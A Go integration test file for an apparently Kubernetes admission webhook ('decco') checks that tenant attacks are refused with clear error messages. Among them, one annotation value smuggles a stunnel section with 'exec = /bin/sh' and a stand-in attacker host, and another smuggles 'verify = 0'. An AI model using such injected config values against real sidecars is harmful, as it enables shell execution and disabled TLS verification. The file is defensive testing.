package faults

import (
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/decco-dev/decco/inject"
	"github.com/decco-dev/decco/intercept"
	"github.com/decco-dev/decco/space"
	"github.com/decco-dev/decco/test/reliability/reltest"
)

// maxRequestBytes is the webhook's --max-request-bytes in the attack test:
// its minimum, so an oversized pod stays small enough for etcd.
const maxRequestBytes = 64 << 10

// A tenant's attacks, each sent through the real apiserver to the decco
// webhook, each refused with a message that names what is wrong and how
// to fix it: the message the tenant's kubectl prints.
func TestTenantAttacksRefusedThroughTheAPIServer(t *testing.T) {
	cluster.Need(t)
	c := cluster.Client
	startWebhook(t, "--max-request-bytes=65536")
	victim := reltest.EnsureSpace(t, c, "victim")
	ns := reltest.EnsureSpace(t, c, "attacker")
	// A namespace labeled as another space, to borrow its identity.
	impostor := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "impostor",
		Labels: map[string]string{space.LabelSpace: victim}, Annotations: map[string]string{space.AnnotationDomain: "example.com"}}}
	require.NoError(t, client.IgnoreAlreadyExists(c.Create(context.Background(), impostor)))

	for _, tc := range []struct {
		name string
		obj  client.Object
		want []string
	}{
		{"a pod claiming another space", attackPod(ns, func(p *corev1.Pod) { p.Labels[space.LabelSpace] = victim }),
			[]string{`"` + victim + `"`, `set the label to "` + ns + `"`}},
		{"a Deployment whose pods claim another space", attackDeployment(ns, victim),
			[]string{"Deployment " + ns + "/web", space.LabelSpace, victim}},
		{"a Service claiming another space", attackService(ns, victim, intstr.FromString("http")),
			[]string{space.LabelSpace + "=" + victim, "set the label to " + ns}},
		{"a pod in a namespace labeled as another space", attackPod(impostor.Name, func(p *corev1.Pod) { p.Labels[space.LabelSpace] = victim }),
			[]string{"namespace impostor is not a valid space", space.LabelSpace, `must equal the namespace's own name "impostor"`}},
		{"hostNetwork", attackPod(ns, func(p *corev1.Pod) { p.Spec.HostNetwork = true }),
			[]string{"hostNetwork", "remove hostNetwork"}},
		{"the sidecar's UID", attackPod(ns, func(p *corev1.Pod) {
			p.Spec.SecurityContext = &corev1.PodSecurityContext{RunAsUser: ptr.To(inject.DefaultUID)}
		}), []string{"UID 1337", "spec.securityContext.runAsUser", "--sidecar-uid"}},
		{"NET_ADMIN", attackPod(ns, func(p *corev1.Pod) {
			p.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Capabilities: &corev1.Capabilities{Add: []corev1.Capability{"NET_ADMIN"}}}
		}), []string{"NET_ADMIN", "capabilities.add"}},
		{"a stunnel section smuggled into decco.io/egress", attackPod(ns, func(p *corev1.Pod) {
			p.Annotations = map[string]string{space.AnnotationEgress: "13306=db.attacker.example.com:3306\n[evil]\nexec = /bin/sh"}
		}), []string{space.AnnotationEgress, `\n[evil]\nexec = /bin/sh`, "write comma-separated localPort=host:port"}},
		{"a newline smuggled into decco.io/tls-ports", attackPod(ns, func(p *corev1.Pod) {
			p.Annotations = map[string]string{space.AnnotationTLSPorts: "http\nverify = 0"}
		}), []string{space.AnnotationTLSPorts, `"http\nverify = 0"`}},
		// The webhook answers 413 before reading the body. The apiserver
		// shows a webhook's error text only from a JSON metav1.Status body;
		// webhook/review.go sends plain text today, so the tenant sees the
		// status code, not the limit (RELIABILITY.md, open items).
		{"an oversized pod", attackPod(ns, func(p *corev1.Pod) {
			p.Annotations = map[string]string{"example.com/blob": strings.Repeat("x", maxRequestBytes)}
		}), []string{`failed calling webhook "pods.decco.io"`, "over the 65536-byte limit"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := c.Create(context.Background(), tc.obj)
			require.Error(t, err, "the apiserver admitted it")
			for _, w := range tc.want {
				assert.Contains(t, err.Error(), w)
			}
			t.Logf("refused: %v", err)
		})
	}

	// A Service pointing at the app's plaintext port is pointed at the
	// port's TLS listener instead.
	t.Run("a Service pointing at a plaintext port", func(t *testing.T) {
		svc := attackService(ns, ns, intstr.FromInt32(8080))
		require.NoError(t, c.Create(context.Background(), svc))
		assert.Equal(t, intstr.FromInt32(inject.ListenerPort(8080)), svc.Spec.Ports[0].TargetPort, "targetPort as stored")
	})
}

func attackPod(ns string, mutate func(*corev1.Pod)) *corev1.Pod {
	p := spacePod(ns)
	mutate(p)
	return p
}

func attackDeployment(ns, claimed string) *appsv1.Deployment {
	rs := replicaSet(ns, "web")
	rs.Spec.Template.Labels[space.LabelSpace] = claimed
	return &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web"},
		Spec:       appsv1.DeploymentSpec{Selector: rs.Spec.Selector, Template: rs.Spec.Template},
	}
}

func attackService(ns, claimed string, target intstr.IntOrString) *corev1.Service {
	return &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, GenerateName: "web-", Labels: map[string]string{space.LabelSpace: claimed}},
		Spec: corev1.ServiceSpec{Selector: map[string]string{"app": "web"},
			Ports: []corev1.ServicePort{{Name: "http", Port: 80, TargetPort: target}}},
	}
}

// With cni interception the sidecar's UID is exempt from the outbound
// rules, so a pod whose app runs as it is refused through the real
// apiserver, naming the field that sets it and both fixes; a pod running
// as another UID is admitted, its plan exempting the sidecar's UID only.
func TestSidecarUIDRefusedInCNIMode(t *testing.T) {
	cluster.Need(t)
	c := cluster.Client
	startWebhook(t, "--interception=cni", "--pod-cidrs=10.244.0.0/16", "--service-cidrs=10.96.0.0/12")
	ns := reltest.EnsureSpace(t, c, "uidclash")
	for _, tc := range []struct {
		name string
		pod  *corev1.Pod
		want []string
	}{
		{"pod-level runAsUser", attackPod(ns, func(p *corev1.Pod) {
			p.Spec.SecurityContext = &corev1.PodSecurityContext{RunAsUser: ptr.To(inject.DefaultUID)}
		}), []string{"runs as UID 1337 (the pod's spec.securityContext.runAsUser)", "its connections would skip the sidecar",
			"set the pod's spec.securityContext.runAsUser to another UID", "--sidecar-uid", "sidecar.uid"}},
		{"container-level runAsUser over another pod-level one", attackPod(ns, func(p *corev1.Pod) {
			p.Spec.SecurityContext = &corev1.PodSecurityContext{RunAsUser: ptr.To[int64](1000)}
			p.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{RunAsUser: ptr.To(inject.DefaultUID)}
		}), []string{"runs as UID 1337 (its securityContext.runAsUser)", "set its securityContext.runAsUser to another UID"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := c.Create(context.Background(), tc.pod)
			require.Error(t, err, "the apiserver admitted it")
			for _, w := range tc.want {
				assert.Contains(t, err.Error(), w)
			}
			t.Logf("refused: %v", err)
		})
	}
	t.Run("another UID", func(t *testing.T) {
		pod := attackPod(ns, func(p *corev1.Pod) {
			p.Spec.SecurityContext = &corev1.PodSecurityContext{RunAsUser: ptr.To[int64](65532)}
		})
		require.NoError(t, c.Create(context.Background(), pod, client.DryRunAll))
		plan, err := intercept.Parse(pod.Annotations[space.AnnotationInterception])
		require.NoError(t, err)
		assert.Equal(t, inject.DefaultUID, plan.SidecarUID)
	})
}

// The label cni mode's listener policy requires (decco.io/interception)
// is decco's: the real webhook in cni mode sets it on the pods it
// injects, replacing a user's value, and refuses it on a pod it doesn't
// inject, which the policy would otherwise open on plaintext ports.
func TestInterceptionLabelInCNIMode(t *testing.T) {
	cluster.Need(t)
	c := cluster.Client
	startWebhook(t, "--interception=cni", "--pod-cidrs=10.244.0.0/16", "--service-cidrs=10.96.0.0/12")
	ns := reltest.EnsureSpace(t, c, "modelabel")
	pod := attackPod(ns, func(p *corev1.Pod) { p.Labels[space.LabelInterception] = "mine" })
	require.NoError(t, c.Create(context.Background(), pod, client.DryRunAll))
	assert.Equal(t, string(inject.InterceptCNI), pod.Labels[space.LabelInterception])
	optedOut := attackPod(ns, func(p *corev1.Pod) {
		p.Labels[space.LabelInterception] = string(inject.InterceptCNI)
		p.Annotations = map[string]string{space.AnnotationInject: "false"}
	})
	err := c.Create(context.Background(), optedOut, client.DryRunAll)
	require.Error(t, err, "the apiserver admitted an opted-out pod labeled for cni mode's listener policy")
	assert.Contains(t, err.Error(), "label "+space.LabelInterception+" is decco's")
	t.Logf("refused: %v", err)
}
